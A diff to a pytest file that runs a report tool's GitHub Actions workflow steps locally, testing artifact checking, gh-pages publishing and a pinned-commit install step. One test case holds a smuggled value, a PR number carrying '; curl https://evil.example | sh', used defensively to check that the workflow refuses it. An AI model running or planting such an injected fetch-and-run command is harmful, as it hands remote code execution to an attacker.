@@ -12,8 +12,9 @@ import shlex
 import shutil
 import subprocess
 import sys
+import sysconfig
 from pathlib import Path
-from typing import Dict, List
+from typing import Dict, List, Tuple
 
 import pytest
 import yaml
@@ -23,7 +24,6 @@ from tests.published import build_reports
 REPO = Path(__file__).resolve().parent.parent
 WORKFLOWS = sorted((REPO / "example_configs" / "github").glob("*.yml"))
 ACTION = REPO / "action.yml"
-PUBLISH_STEPS = ("pages-checkout", "publish")
 
 
 def _check_jsonschema(schema: str, files: List[Path]) -> subprocess.CompletedProcess:
@@ -332,38 +332,31 @@ def test_pull_requests_are_reviewed_in_two_workflows():
     assert comment.on["workflow_run"]["workflows"] == [review.data["name"]]
 
 
-# --------------------------------------------------------------------------- the publishing steps
+# --------------------------------------------------------------------------- steps run for real
+
+GITHUB = REPO / "example_configs" / "github"
+RUN_URL = "https://github.com/o/r/actions/runs/7"
+
 
 def _git(*args: str, cwd: Path) -> str:
     return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout
 
 
-def _steps(workflow: Path):
-    data = yaml.safe_load(workflow.read_text())
-    job = data["jobs"]["publish"]
-    steps = [s for s in job["steps"] if s.get("id") in PUBLISH_STEPS]
-    assert [s["id"] for s in steps] == list(PUBLISH_STEPS)
-    return data.get("env", {}), steps
+def _job(workflow: str, job: str) -> Tuple[Dict[str, str], dict]:
+    """A workflow's env and one of its jobs."""
+    data = yaml.safe_load((GITHUB / workflow).read_text())
+    return data.get("env", {}), data["jobs"][job]
 
 
-def _run_publish_job(origin: Path, work: Path, report: Path, sha: str, bin_dir: Path) -> str:
-    """What the publish job does on a fresh runner: clone (actions/checkout), build (here: copy
-    a built report into build/report), then the workflow's own checkout and publish steps."""
-    _git("clone", "-q", origin.as_uri(), str(work), cwd=work.parent)
-    shutil.copytree(report, work / "build" / "report")
-    workflow_env, steps = _steps(REPO / "example_configs" / "github" / "publish-pages.yml")
-    out = []
-    for step in steps:
-        env = {**os.environ, **{k: str(v) for k, v in workflow_env.items()},
-               **{k: str(v) for k, v in step.get("env", {}).items()},
-               "GITHUB_SHA": sha, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
-               "PYTHONPATH": str(REPO), "GIT_TERMINAL_PROMPT": "0"}
-        # GitHub runs `run:` with bash --noprofile --norc -eo pipefail
-        done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
-                              cwd=work, env=env, capture_output=True, text=True, timeout=300)
-        out.append(done.stdout + done.stderr)
-        assert done.returncode == 0, f"step {step['id']} failed:\n{done.stdout}\n{done.stderr}"
-    return "\n".join(out)
+def _run_step(workflow_env: Dict[str, str], step: dict, cwd: Path, **env: str) -> subprocess.CompletedProcess:
+    """One `run:` step as GitHub runs it (bash --noprofile --norc -eo pipefail), with the
+    workflow's and the step's env, then ``env`` (what the runner sets, what the user filled in).
+    PYTHONPATH is dropped: a step sees only the reportgen that PATH gives it."""
+    full = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
+    full.update({k: str(v) for k, v in {**workflow_env, **step.get("env", {})}.items()})
+    full.update(GIT_TERMINAL_PROMPT="0", GITHUB_SERVER_URL="https://github.com", **env)
+    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
+                          cwd=cwd, env=full, capture_output=True, text=True, timeout=300)
 
 
 @pytest.fixture
@@ -372,17 +365,148 @@ def reportgen_on_path(tmp_path) -> Path:
     bin_dir = tmp_path / "bin"
     bin_dir.mkdir()
     shim = bin_dir / "reportgen"
-    shim.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m reportgen "$@"\n')
+    shim.write_text(f'#!/bin/sh\nPYTHONPATH="{REPO}" exec "{sys.executable}" -m reportgen "$@"\n')
     shim.chmod(0o755)
     return bin_dir
+
+
+@pytest.fixture(scope="module")
+def reports(tmp_path_factory):
+    return build_reports(tmp_path_factory.mktemp("reports"))
+
+
+# --------------------------------------------------------------------------- the comment workflow's checks
+
+def _artifact(work: Path, report: Path, name: str = "reportgen-pr-review", **files: str) -> Path:
+    """What a review run uploads (`name` downloaded into untrusted/): report/, pr-number, gate."""
+    folder = work / "untrusted" / name
+    shutil.copytree(report, folder / "report")
+    for fname, text in {"pr-number": "17\n", "gate": "0\n", **files}.items():
+        (folder / {"pr_number": "pr-number", "summary_md": "summary.md"}.get(fname, fname)).write_text(text)
+    return folder
+
+
+def _read_artifacts(work: Path, bin_dir: Path) -> Tuple[subprocess.CompletedProcess, Dict[str, str]]:
+    """pr-comment.yml's step that checks the downloaded artifacts and renders the summaries."""
+    workflow_env, job = _job("pr-comment.yml", "comment")
+    step = next(s for s in job["steps"] if s.get("id") == "read")
+    (work / "tmp").mkdir()
+    (work / "output").touch()
+    done = _run_step(workflow_env, step, work, RUN_URL=RUN_URL, RUNNER_TEMP=str(work / "tmp"),
+                     GITHUB_OUTPUT=str(work / "output"), PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
+    outputs = dict(line.split("=", 1) for line in (work / "output").read_text().splitlines())
+    return done, outputs
+
+
+def test_comment_workflow_renders_the_summary_itself(tmp_path, reports, reportgen_on_path):
+    _artifact(tmp_path, reports.builds[2], gate="3\n", summary_md="@everyone ![x](https://evil.example/x.png)\n")
+    _artifact(tmp_path, reports.compare, "reportgen-pr-compare")
+    done, outputs = _read_artifacts(tmp_path, reportgen_on_path)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert outputs == {"pr": "17", "ids": "pr-review pr-compare", "tripped": "true"}
+    for summary_id in ("pr-review", "pr-compare"):
+        text = (tmp_path / "tmp" / f"{summary_id}.md").read_text()
+        assert text.startswith(f"<!-- reportgen:{summary_id} -->\n") and f"]({RUN_URL})" in text
+        assert "@everyone" not in text and "evil.example" not in text     # the PR's own summary.md is never read
+
+
+BAD_FINDING = {"id": "x", "severity": "critical", "title": "t", "evidence": "e"}
+UNTRUSTED = {   # what a PR's code could put in its artifact: the step refuses each
+    "number-with-a-command": {"pr_number": "17; curl https://evil.example | sh\n"},
+    "number-zero": {"pr_number": "0\n"},
+    "no-number": {"pr_number": ""},
+    "two-numbers": {"pr_number": "17\n18\n"},
+    "gate-not-0-or-3": {"gate": "1\n"},
+    "report-json-reportgen-rejects": {"report/report.json": json.dumps({"reportgen": "0.1.0", "findings": [BAD_FINDING]})},
+    "other-pr-in-the-compare": {},
+    "no-artifact": {},
+}
+
+
+@pytest.mark.parametrize("case", UNTRUSTED)
+def test_comment_workflow_refuses_an_untrusted_artifact(tmp_path, reports, reportgen_on_path, case):
+    if case == "no-artifact":
+        (tmp_path / "untrusted").mkdir()
+    else:
+        _artifact(tmp_path, reports.builds[0], **{k: v for k, v in UNTRUSTED[case].items() if "/" not in k})
+        for fname, text in UNTRUSTED[case].items():
+            if "/" in fname:
+                (tmp_path / "untrusted" / "reportgen-pr-review" / fname).write_text(text)
+    if case == "other-pr-in-the-compare":
+        _artifact(tmp_path, reports.compare, "reportgen-pr-compare", pr_number="18\n")
+    done, outputs = _read_artifacts(tmp_path, reportgen_on_path)
+    print(done.stdout, done.stderr)
+    assert done.returncode != 0 and outputs == {}
+    if case == "report-json-reportgen-rejects":
+        assert done.returncode == 2 and "severity 'critical'" in done.stderr
+    assert "evil.example" not in done.stdout + done.stderr        # untrusted text is not echoed to the log
+
+
+# --------------------------------------------------------------------------- install, then publish to gh-pages
+
+PUBLISH_STEPS = ("pages-checkout", "publish")
+
+
+def _head() -> str:
+    if not (REPO / ".git").exists():
+        pytest.skip("not a git checkout: no commit to pin")
+    return _git("rev-parse", "HEAD", cwd=REPO).strip()
+
+
+def _pinned_checkout(job: dict, work: Path, sha: str) -> None:
+    """actions/checkout of reportgen's repository at the pinned commit, into the job's path:
+    here a clone of this repository at ``sha``."""
+    path = next(s["with"]["path"] for s in job["steps"] if "repository" in s.get("with", {}))
+    _git("clone", "-q", "--shared", "--no-checkout", str(REPO), str(work / path), cwd=REPO)
+    _git("checkout", "-q", "--detach", sha, cwd=work / path)
+
+
+@pytest.fixture
+def runner(tmp_path) -> Dict[str, str]:
+    """The env of a runner whose Python has reportgen's dependencies but not reportgen: a fresh
+    venv that sees this interpreter's packages through a .pth file (after its own), a `pip`
+    that is that venv's, and pip told never to reach an index."""
+    venv = tmp_path / "venv"
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
+    purelib = subprocess.run([str(venv / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
+                             check=True, capture_output=True, text=True).stdout.strip()
+    ours = sysconfig.get_paths()
+    Path(purelib, "dependencies.pth").write_text(f"{ours['purelib']}\n{ours['platlib']}\n")
+    pip = venv / "bin" / "pip"
+    pip.write_text(f'#!/bin/sh\nexec "{venv}/bin/python" -m pip "$@"\n')
+    pip.chmod(0o755)
+    return {"PATH": f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}", "VIRTUAL_ENV": str(venv),
+            "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "1", "PIP_NO_DEPS": "1", "PIP_NO_BUILD_ISOLATION": "0",
+            "PIP_IGNORE_INSTALLED": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_NO_INPUT": "1"}
+
+
+def _run_publish_job(origin: Path, work: Path, report: Path, sha: str, runner: Dict[str, str],
+                     install: bool = False) -> str:
+    """What the publish job does on a fresh runner: clone (actions/checkout), on the first run
+    check out reportgen at the pinned commit and run the workflow's install step, build (here:
+    copy a built report into build/report), then the workflow's own gh-pages steps."""
+    _git("clone", "-q", origin.as_uri(), str(work), cwd=work.parent)
+    workflow_env, job = _job("publish-pages.yml", "publish")
+    ids = ("install",) * install + PUBLISH_STEPS
+    steps = [s for s in job["steps"] if s.get("id") in ids]
+    assert [s["id"] for s in steps] == list(ids)
+    if install:
+        _pinned_checkout(job, work, _head())
+    out = []
+    for step in steps:
+        if step["id"] == PUBLISH_STEPS[0]:
+            shutil.copytree(report, work / "build" / "report")
+        done = _run_step(workflow_env, step, work, GITHUB_SHA=sha, REPORTGEN_SHA=_head(), **runner)
+        out.append(done.stdout + done.stderr)
+        assert done.returncode == 0, f"step {step['id']} failed:\n{done.stdout}\n{done.stderr}"
+    return "\n".join(out)
 
 
 def _tree(origin: Path, ref: str) -> List[str]:
     return sorted(_git("ls-tree", "-r", "--name-only", ref, cwd=origin).split())
 
 
-def test_gh_pages_publishing_steps_commit_only_what_changed(tmp_path, reportgen_on_path):
-    reports = build_reports(tmp_path / "reports")
+def test_gh_pages_publishing_steps_commit_only_what_changed(tmp_path, reports, runner):
     origin = tmp_path / "origin.git"
     _git("init", "-q", "--bare", "-b", "main", str(origin), cwd=tmp_path)
     seed = tmp_path / "seed"
@@ -392,20 +516,47 @@ def test_gh_pages_publishing_steps_commit_only_what_changed(tmp_path, reportgen_
                  ("push", "-q", origin.as_uri(), "main")):
         _git(*args, cwd=seed)
 
-    # first publish: creates the gh-pages branch
-    _run_publish_job(origin, tmp_path / "run1", reports.builds[0], "a" * 40, reportgen_on_path)
+    # first publish: installs reportgen from the pinned commit, creates the gh-pages branch
+    log = _run_publish_job(origin, tmp_path / "run1", reports.builds[0], "a" * 40, runner, install=True)
+    assert "Successfully installed cnn-reportgen" in log
+    venv = Path(runner["VIRTUAL_ENV"])
+    assert shutil.which("reportgen", path=runner["PATH"]) == str(venv / "bin" / "reportgen")
+    where = subprocess.run([str(venv / "bin" / "python"), "-c", "import reportgen; print(reportgen.__file__)"],
+                           cwd=tmp_path, capture_output=True, text=True, check=True,
+                           env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"}).stdout
+    assert where.startswith(str(venv)), where                 # the installed copy, not this checkout
     ids = [r["id"] for r in json.loads(_git("show", "gh-pages:manifest.json", cwd=origin))["reports"]]
     assert _tree(origin, "gh-pages") == [".nojekyll", "index.html", "manifest.json",
                                          f"reports/{ids[0]}/index.html", f"reports/{ids[0]}/report.json"]
     # second publish, another report: one small commit
-    _run_publish_job(origin, tmp_path / "run2", reports.builds[1], "b" * 40, reportgen_on_path)
+    _run_publish_job(origin, tmp_path / "run2", reports.builds[1], "b" * 40, runner)
     ids = [r["id"] for r in json.loads(_git("show", "gh-pages:manifest.json", cwd=origin))["reports"]]
     changed = sorted(_git("diff", "--name-only", "gh-pages~1", "gh-pages", cwd=origin).split())
     print("changed by the second publish:", changed)
     assert changed == ["index.html", "manifest.json", f"reports/{ids[1]}/index.html", f"reports/{ids[1]}/report.json"]
     assert _git("log", "-1", "--format=%s", "gh-pages", cwd=origin).strip() == "reportgen: publish bbbbbbbb"
     # the same report again: nothing to commit
-    log = _run_publish_job(origin, tmp_path / "run3", reports.builds[1], "c" * 40, reportgen_on_path)
+    log = _run_publish_job(origin, tmp_path / "run3", reports.builds[1], "c" * 40, runner)
     assert "The site did not change." in log
     assert _git("rev-list", "--count", "gh-pages", cwd=origin).strip() == "2"
     assert _git("rev-list", "--count", "main", cwd=origin).strip() == "1"      # main untouched
+
+
+INSTALL_STEPS = [(p.name, name) for p in WORKFLOWS for name, job in yaml.safe_load(p.read_text())["jobs"].items()
+                 if any(s.get("id") == "install" for s in job.get("steps", []))]
+
+
+@pytest.mark.parametrize("workflow, job_name", INSTALL_STEPS)
+@pytest.mark.parametrize("pin", ["main", "v0.1.0", "0" * 40])
+def test_install_step_refuses_anything_but_the_pinned_commit(tmp_path, workflow, job_name, pin):
+    """A branch, a tag or the placeholder SHA left as it is: the install stops before pip."""
+    workflow_env, job = _job(workflow, job_name)
+    _pinned_checkout(job, tmp_path, _head())
+    fake = tmp_path / "bin"
+    fake.mkdir()
+    (fake / "pip").write_text("#!/bin/sh\necho pip ran\n")
+    (fake / "pip").chmod(0o755)
+    step = next(s for s in job["steps"] if s.get("id") == "install")
+    done = _run_step(workflow_env, step, tmp_path, REPORTGEN_SHA=pin, PATH=f"{fake}{os.pathsep}{os.environ['PATH']}")
+    assert done.returncode == 1 and "pip ran" not in done.stdout
+    assert "REPORTGEN_SHA must be the full 40-hex commit" in done.stdout
